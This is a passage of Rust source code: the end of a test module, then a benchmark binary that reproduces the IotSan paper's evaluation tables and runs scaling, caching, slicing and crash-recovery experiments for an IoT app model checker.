    fn run_parallel_matches_run_sequential() {
        let apps = translate_group(&samples::bad_group_mode_unlock());
        let config = expert_config(&apps);
        let sequential = run_sequential(&apps, &config, 2, Duration::from_secs(30));
        let parallel = run_parallel(&apps, &config, 2, 4, Duration::from_secs(30));
        assert_eq!(sequential.report.violated_properties(), parallel.report.violated_properties());
        assert_eq!(sequential.report.stats.states_stored, parallel.report.stats.states_stored);
    }

    #[test]
    fn run_fleet_caches_between_runs() {
        let apps = translate_group(&samples::bad_group_mode_unlock());
        let config = expert_config(&apps);
        let mut cache = VerificationCache::new();
        let budget = Duration::from_secs(30);
        let cold = run_fleet(&apps, &config, 2, 1, false, budget, &mut cache);
        let warm = run_fleet(&apps, &config, 2, 1, false, budget, &mut cache);
        assert_eq!(warm.report.cache_hits, warm.report.groups.len());
        assert_eq!(warm.report.outcome(), cold.report.outcome());
        assert!(cold.states() > 0 && cold.transitions() > 0);
    }

    #[test]
    fn volunteer_config_differs_from_expert() {
        let apps = translate_group(&samples::good_group());
        let expert = expert_config(&apps);
        let volunteer = volunteer_config(&apps, 3);
        assert_ne!(expert, volunteer);
    }
}
