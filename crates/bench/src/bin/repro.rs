//! `repro` — regenerates every table and figure of the IotSan paper's
//! evaluation (§10–§11) on the IotSan-rs reproduction.
//!
//! Usage:
//!
//! ```text
//! cargo run --release -p iotsan-bench --bin repro            # everything
//! cargo run --release -p iotsan-bench --bin repro table5     # one experiment
//! cargo run --release -p iotsan-bench --bin repro -- --json BENCH_pr.json parallel
//! ```
//!
//! Available experiments: `table1 table2 table3 table4 table5 table6 table7a
//! table7b table8 table9 attribution fig4 fig7 fig8a fig8b parallel fleet
//! properties slice daemon telemetry scenarios chaos`.
//!
//! `telemetry` is the observability subsystem's overhead guard: the same
//! sequential workload verified with metric recording switched off and on
//! (the `iotsan-telemetry` runtime kill-switch) inside one process, the
//! enabled arm required to keep ≥95% of the disabled arm's throughput.
//! The final registry snapshot rides along in the JSON document so the
//! BENCH artifact records exactly which counters the workload moved.
//!
//! `scenarios` runs the scenario-factory differential fuzzer
//! (`iotsan-scenarios`): `--size N` households (default 200) generated from
//! `--seed S` (default 1) onward, each checked for sequential == parallel ==
//! sliced == warm-cache agreement.  Any divergence shrinks the failing
//! household to a minimal reproduction, writes it to `scenario_repro.json`
//! and exits non-zero — CI's `fuzz-smoke` job uploads the artifact.
//!
//! `chaos` sweeps `--faults N` (default 50) seeded I/O-fault schedules
//! (`ChaosPlan::generate(seed)` for seeds `--seed S` onward) through the
//! daemon's fault seam: each schedule runs a cold daemon under injected
//! store faults (and optionally a panicking job), restarts on the surviving
//! log, and checks three invariants — no acknowledged verdict is lost, no
//! wrong verdict is ever served, every job reaches a definite outcome.  A
//! violating schedule shrinks to a minimal plan written to
//! `chaos_repro.json` before exiting non-zero — CI's `chaos-smoke` job
//! uploads the artifact.
//!
//! `--json <path>` additionally writes the machine-readable timings collected
//! by the timing experiments (`parallel`: sequential baseline vs parallel
//! checker at 2/4/8 workers; `fleet`: corpus-size × worker sweep of the
//! group-wise planner with cold/warm/mutated cache phases; `properties`:
//! built-ins vs built-ins+customs throughput plus the `property_eval`
//! micro-benchmark of one compiled property pass; `slice`: sliced vs
//! unsliced exploration per market bundle, the `slice_effectiveness` rows;
//! `daemon`: cold vs warm-restart fleet verification over the durable
//! verdict store, including torn-tail crash recovery) — CI's `bench-smoke`
//! and `daemon-smoke` jobs upload these as JSON artifacts so the perf
//! trajectory accumulates.
//!
//! Absolute numbers differ from the paper (different corpus snapshot, a
//! simulator substrate instead of Spin on the authors' laptop); the *shape* of
//! each result is what is being reproduced — see EXPERIMENTS.md.

use iotsan::attribution::AttributionThresholds;
use iotsan::config::standard_household;
use iotsan::depgraph::{analyze, render_summary};
use iotsan::devices::{DeviceId, FailurePolicy};
use iotsan::model::ModelOptions;
use iotsan::properties::{PropertyClass, PropertySet};
use iotsan::{render_table1, Pipeline};
use iotsan_apps::{ifttt, malicious, market, samples};
use iotsan_bench::{
    expert_config, format_duration, format_runtime, run_concurrent, run_sequential,
    translate_group, volunteer_config, TimedRun,
};
use iotsan_telemetry::rows::JsonRow;
use std::collections::BTreeMap;

/// Every experiment name `main` dispatches on, in presentation order.
const EXPERIMENTS: &[&str] = &[
    "table1",
    "table2",
    "table3",
    "table4",
    "table5",
    "table6",
    "table7a",
    "table7b",
    "table8",
    "table9",
    "attribution",
    "fig4",
    "fig7",
    "fig8a",
    "fig8b",
    "parallel",
    "fleet",
    "properties",
    "slice",
    "daemon",
    "telemetry",
    "scenarios",
    "chaos",
];

/// Parses `--flag <integer>` out of `args`, removing both tokens.
fn take_numeric_flag(args: &mut Vec<String>, flag: &str) -> Option<u64> {
    let pos = args.iter().position(|a| a == flag)?;
    if pos + 1 >= args.len() {
        eprintln!("error: {flag} requires an integer value");
        std::process::exit(2);
    }
    let value = args.remove(pos + 1);
    args.remove(pos);
    match value.parse() {
        Ok(n) => Some(n),
        Err(_) => {
            eprintln!("error: {flag} wants an integer, got `{value}`");
            std::process::exit(2);
        }
    }
}

fn main() {
    let mut which: Vec<String> = std::env::args().skip(1).collect();
    let mut json_path = None;
    if let Some(pos) = which.iter().position(|a| a == "--json") {
        if pos + 1 >= which.len() {
            eprintln!("error: --json requires a file path");
            std::process::exit(2);
        }
        json_path = Some(which.remove(pos + 1));
        which.remove(pos);
    }
    let mut baseline_path = None;
    if let Some(pos) = which.iter().position(|a| a == "--baseline") {
        if pos + 1 >= which.len() {
            eprintln!("error: --baseline requires a file path");
            std::process::exit(2);
        }
        baseline_path = Some(which.remove(pos + 1));
        which.remove(pos);
    }
    let fuzz_seed = take_numeric_flag(&mut which, "--seed").unwrap_or(1);
    let fuzz_size = take_numeric_flag(&mut which, "--size").unwrap_or(200) as usize;
    let chaos_schedules = take_numeric_flag(&mut which, "--faults").unwrap_or(50) as usize;
    if let Some(unknown) = which.iter().find(|a| *a != "all" && !EXPERIMENTS.contains(&a.as_str()))
    {
        eprintln!("error: unknown experiment `{unknown}`");
        eprintln!("available: all {}", EXPERIMENTS.join(" "));
        std::process::exit(2);
    }
    let all = which.is_empty() || which.iter().any(|a| a == "all");
    let want = |name: &str| all || which.iter().any(|a| a == name);
    let mut bench_json = BenchJson::new();

    if want("table1") {
        table1();
    }
    if want("table2") || want("fig4") || want("table3") {
        table2_and_3_and_fig4();
    }
    if want("table4") {
        table4();
    }
    if want("table5") {
        table5();
    }
    if want("table6") {
        table6();
    }
    if want("table7a") {
        table7a();
    }
    if want("table7b") {
        table7b();
    }
    if want("table8") {
        table8();
    }
    if want("table9") {
        table9();
    }
    if want("attribution") {
        attribution();
    }
    if want("fig7") {
        fig7();
    }
    if want("fig8a") {
        fig8a();
    }
    if want("fig8b") {
        fig8b();
    }
    let mut sequential_throughput = None;
    if want("parallel") {
        sequential_throughput = Some(parallel(&mut bench_json));
    }
    if want("fleet") {
        fleet(&mut bench_json);
    }
    if want("properties") {
        properties_experiment(&mut bench_json);
    }
    if want("slice") {
        slice_experiment(&mut bench_json);
    }
    if want("daemon") {
        daemon_experiment(&mut bench_json);
    }
    if want("telemetry") {
        telemetry_experiment(&mut bench_json);
    }
    if want("scenarios") {
        scenarios_experiment(&mut bench_json, fuzz_seed, fuzz_size);
    }
    if want("chaos") {
        chaos_experiment(&mut bench_json, fuzz_seed, chaos_schedules);
    }
    if let Some(path) = json_path {
        std::fs::write(&path, bench_json.render())
            .unwrap_or_else(|e| panic!("failed to write {path}: {e}"));
        println!("\nwrote machine-readable timings to {path}");
    }
    if let Some(path) = baseline_path {
        let Some(measured) = sequential_throughput else {
            eprintln!("error: --baseline requires the `parallel` experiment to run");
            std::process::exit(2);
        };
        check_throughput_baseline(&path, measured);
    }
}

/// The open-property-API experiment: the same scaling workload verified
/// under the 45 built-ins and under built-ins + 5 custom `PropertySpec`s
/// (see `iotsan_bench::sample_custom_properties`).  Asserts the custom run
/// is consistent (identical built-in violated set, identical states and
/// transitions — same-step custom specs cannot change the state space) and
/// that the open API causes no throughput cliff, then times one compiled
/// property pass in isolation (the `property_eval` rows).
fn properties_experiment(json: &mut BenchJson) {
    use iotsan::system::InstalledSystem;
    use std::collections::BTreeSet;
    use std::time::Instant;

    heading("Open property API: built-ins vs built-ins + custom specs");
    let (apps, config) = iotsan_bench::scaling_workload();
    let events = iotsan_bench::experiment_events(2, 3);
    let budget = iotsan_bench::experiment_budget(30, 120);

    let builtin_run = iotsan_bench::run_search(&apps, &config, events, 1, true, budget);
    let extended_set = iotsan_bench::extended_property_set();
    let custom_count = extended_set.len() - 45;
    let custom_run = iotsan_bench::run_search_with_properties(
        &apps,
        &config,
        events,
        1,
        true,
        budget,
        extended_set,
    );

    // Consistency: custom specs must not perturb the built-in verdict or the
    // explored state space.
    let base: BTreeSet<u32> = builtin_run.report.violated_properties();
    let extended: BTreeSet<u32> = custom_run.report.violated_properties();
    let extended_builtins: BTreeSet<u32> = extended.iter().copied().filter(|p| *p <= 45).collect();
    assert_eq!(base, extended_builtins, "custom properties changed the built-in violated set");
    assert_eq!(
        builtin_run.report.stats.states_stored, custom_run.report.stats.states_stored,
        "custom same-step properties must not change the state count"
    );
    assert_eq!(
        builtin_run.report.stats.transitions, custom_run.report.stats.transitions,
        "custom same-step properties must not change the transition count"
    );

    let ratio =
        custom_run.report.stats.states_per_sec / builtin_run.report.stats.states_per_sec.max(1e-9);
    println!(
        "{:<22} {:>14} {:>10} {:>12} {:>12}",
        "Property set", "Time", "States", "States/sec", "Violations"
    );
    for (label, run) in [("45 built-ins", &builtin_run), ("+5 custom specs", &custom_run)] {
        println!(
            "{label:<22} {:>14} {:>10} {:>12.0} {:>12}",
            format_runtime(run),
            run.report.stats.states_stored,
            run.report.stats.states_per_sec,
            run.report.violated_properties().len()
        );
    }
    println!("custom/builtin throughput ratio: {ratio:.3}");
    // The cliff guard: a structural regression (e.g. per-transition
    // allocation or string matching sneaking back into the compiled path)
    // costs integer factors, far below this noise-tolerant floor.
    assert!(
        ratio >= 0.5,
        "throughput cliff: custom specs dropped states/sec to {ratio:.3}x of built-ins"
    );

    let property_row = |phase: &str, properties: usize, run: &TimedRun, ratio: f64| {
        JsonRow::with_capacity(256)
            .str("phase", phase)
            .num_u("properties", properties as u64)
            .fixed("seconds", run.elapsed.as_secs_f64(), 6)
            .num_u("states", run.report.stats.states_stored as u64)
            .num_u("transitions", run.report.stats.transitions as u64)
            .fixed("states_per_sec", run.report.stats.states_per_sec, 1)
            .num_u("violated_properties", run.report.violated_properties().len() as u64)
            .flag("truncated", run.truncated)
            .fixed("throughput_ratio", ratio, 3)
            .finish()
    };
    let rows = vec![
        property_row("builtins", 45, &builtin_run, 1.0),
        property_row("customs", 45 + custom_count, &custom_run, ratio),
    ];
    json.push_experiment("properties", "market8+failures", events, &rows);

    // ---- property_eval micro-benchmark: one compiled pass in isolation ----
    let pipeline = Pipeline::with_events(events);
    let restricted = pipeline.restrict_config(&apps, &config);
    let system = InstalledSystem::new(apps.clone(), restricted);
    let snapshot = system.snapshot(&system.initial_state());
    let observation = iotsan::properties::StepObservation::default();
    let mut eval_rows = Vec::new();
    println!("\nproperty_eval micro-benchmark (one compiled pass per transition):");
    for (label, set) in [
        ("builtins", PropertySet::all()),
        ("builtins+customs", iotsan_bench::extended_property_set()),
    ] {
        let compiled = system.compile_properties(&set);
        let mut monitors = vec![0u8; compiled.monitor_count()];
        let mut scratch = iotsan::properties::EvalScratch::default();
        let mut out = Vec::new();
        let iters = 200_000u32;
        let start = Instant::now();
        for _ in 0..iters {
            out.clear();
            compiled.check_transition(
                &snapshot,
                &observation,
                &mut monitors,
                &mut scratch,
                &mut out,
            );
        }
        let ns = start.elapsed().as_nanos() as f64 / f64::from(iters);
        println!(
            "  {label:<18} {:>3} specs, {:>3} atoms: {ns:>8.1} ns/pass",
            set.len(),
            compiled.atom_count()
        );
        eval_rows.push(
            JsonRow::new()
                .str("set", label)
                .num_u("properties", set.len() as u64)
                .num_u("atoms", compiled.atom_count() as u64)
                .fixed("ns_per_eval", ns, 1)
                .finish(),
        );
    }
    json.push_experiment("property_eval", "market8", events, &eval_rows);
}

/// The property-directed-slicing experiment: every market bundle verified
/// sliced and unsliced, under the full 45-property catalog and under the
/// focused state-only selection (the specs whose cone watches no command /
/// notification stream — the case slicing is built for).  Asserts the
/// violated-property sets are identical per related group on every run, and
/// that at least one bundle explores strictly fewer states when sliced.
fn slice_experiment(json: &mut BenchJson) {
    use iotsan::analysis::{slice_plan, Cone};
    use iotsan::properties::PropertyId;
    use std::collections::BTreeSet;
    use std::time::Instant;

    heading("Property-directed slicing: sliced vs unsliced exploration");
    let events = iotsan_bench::experiment_events(2, 3);
    let full = PropertySet::all();

    // The focused selection: built-ins whose standalone cone has no
    // command/notification flag set — pure device/mode-state safety.
    let state_ids: Vec<PropertyId> = full
        .specs()
        .iter()
        .filter(|s| {
            let cone = Cone::seed(&PropertySet::selection(&[s.property_id()]));
            !cone.commands
                && !cone.sms
                && !cone.push
                && !cone.network
                && !cone.unsubscribe
                && !cone.fake_events
        })
        .map(|s| s.property_id())
        .collect();
    assert!(!state_ids.is_empty(), "the catalog has state-only properties");

    // The narrowest property: the state-only spec whose cone seeds the fewest
    // channels — verifying just one such property is the sharpest slicing
    // demonstration (a real workflow: re-checking a single safety rule).
    let narrowest: PropertyId = *state_ids
        .iter()
        .min_by_key(|id| Cone::seed(&PropertySet::selection(&[**id])).channels.len())
        .expect("state-only selection is non-empty");

    let outcome = |result: &iotsan::VerificationResult| -> Vec<(Vec<String>, BTreeSet<u32>)> {
        let mut out: Vec<_> = result
            .groups
            .iter()
            .map(|g| (g.apps.clone(), g.report.violated_properties()))
            .collect();
        out.sort();
        out
    };

    println!(
        "{:<10} {:<12} {:>9} {:>9} {:>9} {:>11} {:>11} {:>10}",
        "Bundle",
        "Properties",
        "Handlers",
        "Dropped",
        "Analysis",
        "States",
        "Sliced st.",
        "Verdicts"
    );
    let mut rows = Vec::new();
    let mut reduced_bundles = 0usize;
    for (i, group) in market::six_groups().iter().enumerate() {
        let apps = translate_group(group);
        let config = expert_config(&apps);
        let handler_count: usize = apps.iter().map(|a| a.handlers.len()).sum();
        for (set_label, set) in [
            ("builtins45", full.clone()),
            ("state-only", PropertySet::selection(&state_ids)),
            ("single-prop", PropertySet::selection(&[narrowest])),
        ] {
            // Bundle-level analysis cost: one summary + cone fixpoint pass.
            let t0 = Instant::now();
            let plan = slice_plan(&apps, &set);
            let analysis_seconds = t0.elapsed().as_secs_f64();

            let (plain_time, plain) =
                iotsan_bench::run_pipeline_verify(&apps, &config, events, set.clone(), false);
            let (sliced_time, sliced) =
                iotsan_bench::run_pipeline_verify(&apps, &config, events, set, true);
            assert_eq!(
                outcome(&plain),
                outcome(&sliced),
                "bundle {i} ({set_label}): slicing changed a verdict"
            );
            let plain_states: usize =
                plain.groups.iter().map(|g| g.report.stats.states_stored).sum();
            let sliced_states: usize =
                sliced.groups.iter().map(|g| g.report.stats.states_stored).sum();
            assert!(
                sliced_states <= plain_states,
                "bundle {i} ({set_label}): sliced exploration grew"
            );
            if sliced_states < plain_states {
                reduced_bundles += 1;
            }
            println!(
                "{i:<10} {set_label:<12} {handler_count:>9} {:>9} {analysis_seconds:>9.4} {plain_states:>11} {sliced_states:>11} {:>10}",
                plan.dropped_count(),
                "equal",
            );
            rows.push(
                JsonRow::with_capacity(256)
                    .num_u("bundle", i as u64)
                    .str("properties", set_label)
                    .num_u("handlers", handler_count as u64)
                    .num_u("dropped_handlers", plan.dropped_count() as u64)
                    .fixed("analysis_seconds", analysis_seconds, 6)
                    .fixed("unsliced_seconds", plain_time.as_secs_f64(), 6)
                    .fixed("sliced_seconds", sliced_time.as_secs_f64(), 6)
                    .num_u("unsliced_states", plain_states as u64)
                    .num_u("sliced_states", sliced_states as u64)
                    .flag("verdicts_identical", true)
                    .finish(),
            );
        }
    }
    assert!(reduced_bundles >= 1, "slicing reduced the explored state count on no bundle at all");
    println!(
        "slicing preserved every verdict; {reduced_bundles} bundle runs explored strictly fewer states"
    );
    json.push_experiment("slice_effectiveness", "market-six-groups", events, &rows);
}

/// Maximum tolerated drop of the sequential checker's states/sec relative to
/// the committed baseline before the CI bench-smoke job fails.
const THROUGHPUT_REGRESSION_TOLERANCE: f64 = 0.20;

/// Extracts the sequential-engine `states_per_sec` value from a
/// machine-readable timings document (the committed `BENCH_baseline.json`).
/// Hand-rolled scan, tolerating optional whitespace after the colon so both
/// the legacy spaced baseline and rows rendered by `JsonRow` parse.
fn baseline_states_per_sec(text: &str) -> Option<f64> {
    let row = text.lines().find(|l| l.contains("\"engine\":") && l.contains("\"sequential\""))?;
    let start = row.find("\"states_per_sec\":")? + "\"states_per_sec\":".len();
    let rest = row[start..].trim_start();
    let end = rest.find([',', '}'])?;
    rest[..end].trim().parse().ok()
}

/// The bench-smoke regression guard: fails the run when the measured
/// sequential throughput has regressed more than
/// [`THROUGHPUT_REGRESSION_TOLERANCE`] below the committed baseline.
/// (Cross-machine noise caveat: the baseline is refreshed whenever the
/// benchmark machine class changes — see EXPERIMENTS.md.)
fn check_throughput_baseline(path: &str, measured: f64) {
    let text = std::fs::read_to_string(path)
        .unwrap_or_else(|e| panic!("failed to read baseline {path}: {e}"));
    let Some(baseline) = baseline_states_per_sec(&text) else {
        eprintln!("error: no sequential states_per_sec row in baseline {path}");
        std::process::exit(2);
    };
    let floor = baseline * (1.0 - THROUGHPUT_REGRESSION_TOLERANCE);
    println!(
        "\nthroughput guard: sequential {measured:.0} states/sec vs baseline {baseline:.0} (floor {floor:.0})"
    );
    if measured < floor {
        eprintln!(
            "error: sequential throughput regressed more than {:.0}% below the committed baseline \
             ({measured:.0} < {floor:.0} states/sec); investigate or refresh BENCH_baseline.json",
            THROUGHPUT_REGRESSION_TOLERANCE * 100.0
        );
        std::process::exit(1);
    }
}

/// Collector for the machine-readable timing document written by `--json`.
/// The document frame (experiment list, pretty-printed nesting) is rendered
/// here; the rows themselves are [`JsonRow`] objects from
/// `iotsan-telemetry`, the same serializer behind the daemon's NDJSON
/// outcomes and the metrics snapshot, so the surfaces cannot drift in
/// escaping or number formatting.
struct BenchJson {
    experiments: Vec<String>,
}

impl BenchJson {
    fn new() -> Self {
        BenchJson { experiments: Vec::new() }
    }

    fn push_experiment(&mut self, name: &str, group: &str, events: usize, rows: &[String]) {
        let body: Vec<String> = rows.iter().map(|row| format!("        {row}")).collect();
        self.experiments.push(format!(
            "    {{\n      \"name\": \"{name}\",\n      \"group\": \"{group}\",\n      \"events\": {events},\n      \"rows\": [\n{}\n      ]\n    }}",
            body.join(",\n")
        ));
    }

    fn render(&self) -> String {
        let cpus = std::thread::available_parallelism().map(|n| n.get()).unwrap_or(1);
        format!(
            "{{\n  \"schema\": 1,\n  \"profile\": \"{}\",\n  \"host_cpus\": {cpus},\n  \"experiments\": [\n{}\n  ]\n}}\n",
            if iotsan_bench::PAPER_SCALE { "bench" } else { "quick" },
            self.experiments.join(",\n")
        )
    }
}

/// Speedup of `run` relative to `baseline` (guarding against a zero-length
/// run); used by both the printed table and the JSON rows so they can never
/// diverge.
fn speedup_vs(baseline: &TimedRun, run: &TimedRun) -> f64 {
    baseline.elapsed.as_secs_f64() / run.elapsed.as_secs_f64().max(1e-9)
}

fn timing_row(workers: usize, run: &TimedRun, baseline: &TimedRun) -> String {
    JsonRow::with_capacity(256)
        .num_u("workers", workers as u64)
        .str("engine", if workers <= 1 { "sequential" } else { "parallel" })
        .fixed("seconds", run.elapsed.as_secs_f64(), 6)
        .num_u("states", run.report.stats.states_stored as u64)
        .num_u("transitions", run.report.stats.transitions as u64)
        .fixed("states_per_sec", run.report.stats.states_per_sec, 1)
        .num_u("peak_trace_bytes", run.report.stats.peak_trace_bytes as u64)
        .num_u("violated_properties", run.report.violated_properties().len() as u64)
        .flag("truncated", run.truncated)
        .fixed("speedup", speedup_vs(baseline, run), 3)
        .finish()
}

/// Worker-count sweep: the sequential checker vs the parallel checker at
/// 2/4/8 workers on the bench-profile scaling workload — 8 market apps with
/// failure injection (the paper has no multi-core numbers — this tracks the
/// reproduction's own scaling; see EXPERIMENTS.md).  Returns the sequential
/// engine's measured states/sec (the throughput-guard metric).
fn parallel(json: &mut BenchJson) -> f64 {
    heading("Parallel checker: worker-count sweep (8 market apps, failures on)");
    let (apps, config) = iotsan_bench::scaling_workload();
    let events = iotsan_bench::experiment_events(3, 4);
    let budget = iotsan_bench::experiment_budget(30, 120);

    let baseline = iotsan_bench::run_search(&apps, &config, events, 1, true, budget);
    let mut rows = vec![timing_row(1, &baseline, &baseline)];
    println!(
        "{:<10} {:>14} {:>10} {:>12} {:>12} {:>9}",
        "Workers", "Time", "States", "Transitions", "Violations", "Speedup"
    );
    println!(
        "{:<10} {:>14} {:>10} {:>12} {:>12} {:>9}",
        "1 (seq)",
        format_runtime(&baseline),
        baseline.report.stats.states_stored,
        baseline.report.stats.transitions,
        baseline.report.violated_properties().len(),
        "1.00x"
    );
    let mut any_truncated = baseline.truncated;
    for workers in [2usize, 4, 8] {
        let run = iotsan_bench::run_search(&apps, &config, events, workers, true, budget);
        let speedup = speedup_vs(&baseline, &run);
        println!(
            "{workers:<10} {:>14} {:>10} {:>12} {:>12} {:>8.2}x",
            format_runtime(&run),
            run.report.stats.states_stored,
            run.report.stats.transitions,
            run.report.violated_properties().len(),
            speedup
        );
        // The deterministic-merge guarantee only holds for complete searches:
        // runs truncated by the wall-clock budget (e.g. an overloaded CI
        // runner) legitimately stop at different frontiers.
        any_truncated |= run.truncated;
        if !run.truncated && !baseline.truncated {
            let consistent = run.report.violated_properties()
                == baseline.report.violated_properties()
                && run.report.stats.states_stored == baseline.report.stats.states_stored
                && run.report.stats.transitions == baseline.report.stats.transitions;
            assert!(
                consistent,
                "parallel checker at {workers} workers disagrees with the sequential checker: \
                 violations {:?} vs {:?}, states {} vs {}, transitions {} vs {}",
                run.report.violated_properties(),
                baseline.report.violated_properties(),
                run.report.stats.states_stored,
                baseline.report.stats.states_stored,
                run.report.stats.transitions,
                baseline.report.stats.transitions,
            );
        }
        rows.push(timing_row(workers, &run, &baseline));
    }
    json.push_experiment("parallel_scaling", "market8+failures", events, &rows);
    if any_truncated {
        println!("(a run hit its wall-clock budget; cross-engine consistency not fully checked)");
    } else {
        println!("(equal violation sets, state and transition counts across all worker counts: deterministic merge verified)");
    }
    baseline.report.stats.states_per_sec
}

fn fleet_row(
    corpus: usize,
    workers: usize,
    phase: &str,
    run: &iotsan_bench::FleetRun,
    cold: &iotsan_bench::FleetRun,
) -> String {
    JsonRow::with_capacity(256)
        .num_u("corpus", corpus as u64)
        .num_u("workers", workers as u64)
        .str("phase", phase)
        .fixed("seconds", run.elapsed.as_secs_f64(), 6)
        .num_u("groups", run.report.groups.len() as u64)
        .num_u("cache_hits", run.report.cache_hits as u64)
        .num_u("cache_misses", run.report.cache_misses as u64)
        .fixed("hit_rate", run.report.cache_hit_rate(), 3)
        .num_u("violated_properties", run.report.violated_properties().len() as u64)
        .num_u("states", run.states() as u64)
        .num_u("transitions", run.transitions() as u64)
        .flag("truncated", run.truncated())
        .fixed(
            "speedup_vs_cold",
            cold.elapsed.as_secs_f64() / run.elapsed.as_secs_f64().max(1e-9),
            3,
        )
        .finish()
}

/// Fleet planner sweep: group counts (via corpus size) × worker counts ×
/// cache phases (cold, warm replay, warm after mutating one app) over the
/// market corpus with failure injection.  The paper has no fleet-cache
/// numbers — this tracks the reproduction's own analyze→check→attribute
/// subsystem; see EXPERIMENTS.md.
fn fleet(json: &mut BenchJson) {
    heading("Fleet planner: cached group-wise verification (market corpus, failures on)");
    let events = iotsan_bench::experiment_events(2, 3);
    let budget = iotsan_bench::experiment_budget(30, 120);
    let corpus_sizes: &[usize] = if iotsan_bench::PAPER_SCALE { &[8, 16, 24] } else { &[4, 8, 12] };
    let mut rows = Vec::new();
    println!(
        "{:<8} {:<8} {:<10} {:>12} {:>8} {:>6} {:>8} {:>9} {:>12}",
        "Corpus", "Workers", "Phase", "Time", "Groups", "Hits", "Misses", "HitRate", "Violations"
    );
    for &corpus in corpus_sizes {
        let (apps, config) = iotsan_bench::fleet_workload(corpus);
        for workers in [1usize, 2] {
            let mut cache = iotsan::VerificationCache::new();
            let cold =
                iotsan_bench::run_fleet(&apps, &config, events, workers, true, budget, &mut cache);
            let warm =
                iotsan_bench::run_fleet(&apps, &config, events, workers, true, budget, &mut cache);

            // Mutate one verified app's IR (not its event profile): only the
            // groups containing it may be re-checked.
            let mut mutated = apps.clone();
            let target = mutated
                .iter_mut()
                .find(|a| !a.dynamic_discovery)
                .expect("a verifiable app in the corpus");
            let target_name = target.name.clone();
            target.description.push_str(" (fleet mutation)");
            let after = iotsan_bench::run_fleet(
                &mutated, &config, events, workers, true, budget, &mut cache,
            );

            // Consistency: a warm replay must be outcome-identical to the
            // cold run, and the mutation must invalidate exactly the groups
            // containing the mutated app.  Only complete searches carry the
            // guarantee (a budget-truncated report is never cached).
            if !cold.truncated() && !warm.truncated() {
                assert_eq!(
                    warm.report.outcome(),
                    cold.report.outcome(),
                    "warm fleet replay diverged from the cold run ({corpus} apps, {workers} workers)"
                );
                assert_eq!(warm.report.cache_hits, warm.report.groups.len());
                for group in &after.report.groups {
                    let contains_target = group.apps.contains(&target_name);
                    assert_eq!(
                        group.from_cache, !contains_target,
                        "mutation of {target_name} invalidated the wrong groups"
                    );
                }
            }

            for (phase, run) in [("cold", &cold), ("warm", &warm), ("mutated", &after)] {
                println!(
                    "{corpus:<8} {workers:<8} {phase:<10} {:>12} {:>8} {:>6} {:>8} {:>8.0}% {:>12}",
                    format_duration(run.elapsed, run.truncated()),
                    run.report.groups.len(),
                    run.report.cache_hits,
                    run.report.cache_misses,
                    run.report.cache_hit_rate() * 100.0,
                    run.report.violated_properties().len(),
                );
                rows.push(fleet_row(corpus, workers, phase, run, &cold));
            }
        }
    }
    json.push_experiment("fleet", "market+failures", events, &rows);
    println!("(warm replays verified outcome-identical; mutation invalidated only its own groups)");
}

/// Warm-restart experiment over `iotsan-daemon`'s durable verdict store:
/// verify the 8-app market fleet cold (writing every group verdict through
/// to the append-only log), tear the log's tail the way a crash mid-append
/// would, then verify again in a fresh "process" over the same file.  The
/// restart must detect and skip the torn tail, replay every verdict from
/// disk (`backing_hits`) byte-identically to the cold run, and come in at
/// least 10x faster — all asserted here, so CI's `daemon-smoke` job fails
/// loudly if durability ever regresses.
fn daemon_experiment(json: &mut BenchJson) {
    use iotsan::VerificationCache;
    use iotsan_daemon::{Recovery, StoreBacking, VerdictStore};
    use std::sync::{Arc, Mutex};

    heading("Daemon: durable verdict store across a crashed restart (8 market apps, failures on)");
    // A fixed 3-event bound in both profiles: deep enough that cold
    // verification dwarfs the disk replay, cheap enough for the quick one.
    let events = 3;
    let budget = iotsan_bench::experiment_budget(60, 180);
    let (apps, config) = iotsan_bench::fleet_workload(8);

    let dir = std::env::temp_dir().join(format!("iotsan-repro-daemon-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("create the store directory");
    let path = dir.join("verdicts.log");

    let open_cache = |path: &std::path::Path| {
        let store = Arc::new(Mutex::new(VerdictStore::open(path).expect("open the verdict store")));
        let recovery = store.lock().unwrap().recovery().clone();
        let cache = VerificationCache::new().with_backing(Box::new(StoreBacking::new(store)));
        (cache, recovery)
    };

    // Phase 1: cold run, writing every verdict through to the log.
    let (mut cache, recovery) = open_cache(&path);
    assert_eq!(recovery, Recovery::Fresh, "the experiment starts from a fresh store");
    let cold = iotsan_bench::run_fleet(&apps, &config, events, 1, true, budget, &mut cache);
    drop(cache); // "process exit": nothing in memory survives past here

    // Kill the process mid-append: a torn half-record at the log's tail.
    {
        use std::io::Write as _;
        let mut file =
            std::fs::OpenOptions::new().append(true).open(&path).expect("reopen the log");
        file.write_all(&[0x01, 0xde, 0xad, 0xbe]).expect("append a torn record");
    }

    // Phase 2: restart.  Replay a few times (fresh cache each time, so every
    // lookup goes to disk) and keep the fastest, like any microbenchmark.
    let (mut cache, recovery) = open_cache(&path);
    let recovered = format!("{recovery:?}");
    assert!(
        matches!(recovery, Recovery::CorruptTail { .. }),
        "the torn tail must be detected and skipped, got {recovery:?}"
    );
    let mut warm = iotsan_bench::run_fleet(&apps, &config, events, 1, true, budget, &mut cache);
    let mut warm_backing_hits = cache.backing_hits();
    for _ in 0..2 {
        let (mut again, _) = open_cache(&path);
        let run = iotsan_bench::run_fleet(&apps, &config, events, 1, true, budget, &mut again);
        if run.elapsed < warm.elapsed {
            warm = run;
            warm_backing_hits = again.backing_hits();
        }
    }

    let speedup = cold.elapsed.as_secs_f64() / warm.elapsed.as_secs_f64().max(1e-9);
    if !cold.truncated() {
        assert_eq!(warm.report.cache_misses, 0, "a warm restart must not re-verify any group");
        assert_eq!(
            warm_backing_hits,
            warm.report.groups.len(),
            "every warm verdict must be served from the on-disk store"
        );
        for (c, w) in cold.report.groups.iter().zip(&warm.report.groups) {
            assert_eq!(c.report, w.report, "replayed verdict diverged from the cold run");
        }
        assert!(
            speedup >= 10.0,
            "warm restart must be at least 10x faster than the cold run, got {speedup:.1}x"
        );
    }

    println!(
        "{:<14} {:>12} {:>8} {:>6} {:>8} {:>13} {:>10}",
        "Phase", "Time", "Groups", "Hits", "Misses", "BackingHits", "Speedup"
    );
    let mut rows = Vec::new();
    for (phase, run, backing) in
        [("cold", &cold, 0usize), ("warm-restart", &warm, warm_backing_hits)]
    {
        let vs_cold = cold.elapsed.as_secs_f64() / run.elapsed.as_secs_f64().max(1e-9);
        println!(
            "{phase:<14} {:>12} {:>8} {:>6} {:>8} {backing:>13} {vs_cold:>9.1}x",
            format_duration(run.elapsed, run.truncated()),
            run.report.groups.len(),
